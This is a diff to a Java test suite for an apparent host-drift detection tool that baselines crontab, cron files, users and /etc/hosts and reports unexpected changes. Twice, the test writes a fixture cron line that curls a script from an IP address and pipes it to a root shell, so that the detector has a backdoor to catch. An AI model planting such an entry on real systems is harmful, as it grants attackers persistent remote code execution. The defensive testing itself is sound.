@@ -95,9 +95,14 @@ final class OnDemandTest {
       Cli visited = onRoot("analysis", "--format", "ndjson");
       assertEquals(ExitCode.FINDINGS, visited.exitCode(), visited::err);
       List<Finding> found = deviations(visited);
-      assertEquals(3, found.size(), visited::out);
+      assertEquals(4, found.size(), visited::out);
       assertEquals(
-          Set.of("crontab unexpected", "users unexpected", "etc_hosts unexpected"), named(found));
+          Set.of(
+              "crontab unexpected",
+              "cron_files unexpected",
+              "users unexpected",
+              "etc_hosts unexpected"),
+          named(found));
       assertNoBaselineIsTakenOfASuspect();
 
       Files.delete(root.resolve("etc/cron.d/sync"));
@@ -110,8 +115,8 @@ final class OnDemandTest {
       write("etc/crontab", CLEAN_CRONTAB.lines().findFirst().orElseThrow() + "\n");
       Cli removed = onRoot("analysis", "--format", "ndjson");
       assertEquals(ExitCode.FINDINGS, removed.exitCode(), removed::err);
-      assertEquals(1, deviations(removed).size(), removed::out);
-      assertEquals(Set.of("crontab missing"), named(deviations(removed)));
+      assertEquals(2, deviations(removed).size(), removed::out);
+      assertEquals(Set.of("crontab missing", "cron_files changed"), named(deviations(removed)));
     }
   }
 
@@ -119,7 +124,7 @@ final class OnDemandTest {
     Cli poisoned = onRoot("baseline");
     assertEquals(ExitCode.FAILURE, poisoned.exitCode(), poisoned::out);
     assertTrue(
-        poisoned.err().contains("no baseline of local: 3 findings are open against"),
+        poisoned.err().contains("no baseline of local: 4 findings are open against"),
         poisoned::err);
     assertTrue(poisoned.err().contains("crontab unexpected on"), poisoned::err);
   }
@@ -135,7 +140,7 @@ final class OnDemandTest {
       assertEquals(ExitCode.FAILURE, onRoot("baseline").exitCode());
       Cli told = onRoot("baseline", "--despite-findings", "the new backup job");
       assertEquals(ExitCode.NOTHING_FOUND, told.exitCode(), told::err);
-      assertTrue(told.out().contains("despite 1 open findings: the new backup job"), told::out);
+      assertTrue(told.out().contains("despite 2 open findings: the new backup job"), told::out);
       assertEquals(ExitCode.NOTHING_FOUND, onRoot("analysis").exitCode());
     }
   }
@@ -146,7 +151,7 @@ final class OnDemandTest {
     write("etc/cron.d/sync", "* * * * * root curl -s http://203.0.113.7/x | sh\n");
     Cli visited = onRoot("analysis", "--format", "ndjson");
     assertEquals(ExitCode.FINDINGS, visited.exitCode(), visited::err);
-    Finding first = deviations(visited).get(0);
+    Finding first = ofCrontab(visited);
 
     // The broker that was begun meanwhile is stopped with the command, and the folder is free.
     Cli nowhere = Cli.diffy("new", "analysis", "local", "--data", data(), "--root", data() + "-no");
@@ -158,13 +163,13 @@ final class OnDemandTest {
     assertEquals(ExitCode.FINDINGS, again.exitCode(), again::err);
     Cli shown = Cli.diffy("findings", "--data", data(), "--format", "ndjson");
     assertEquals(deviations(again), deviations(shown));
-    Finding later = deviations(again).get(0);
-    assertEquals(1, deviations(again).size(), again::out);
+    Finding later = ofCrontab(again);
+    assertEquals(Set.of("crontab unexpected", "cron_files unexpected"), named(deviations(again)));
     assertEquals(Finding.Activity.CREATE, later.activity());
     assertTrue(!later.uid().equals(first.uid()), again::out);
 
     write("etc/cron.d/sync", "* * * * * root curl -s http://203.0.113.7/x | sh\n");
-    Finding back = deviations(onRoot("analysis", "--format", "ndjson")).get(0);
+    Finding back = ofCrontab(onRoot("analysis", "--format", "ndjson"));
     assertEquals(first.uid(), back.uid());
     assertTrue(back.sequence() > first.sequence(), () -> "sequence " + back.sequence());
   }
@@ -244,6 +249,13 @@ final class OnDemandTest {
       }
     }
     return findings;
+  }
+
+  private static Finding ofCrontab(Cli analysis) throws MalformedRecord {
+    return deviations(analysis).stream()
+        .filter(finding -> finding.query().equals("crontab"))
+        .findFirst()
+        .orElseThrow();
   }
 
   private static Set<String> named(List<Finding> findings) {
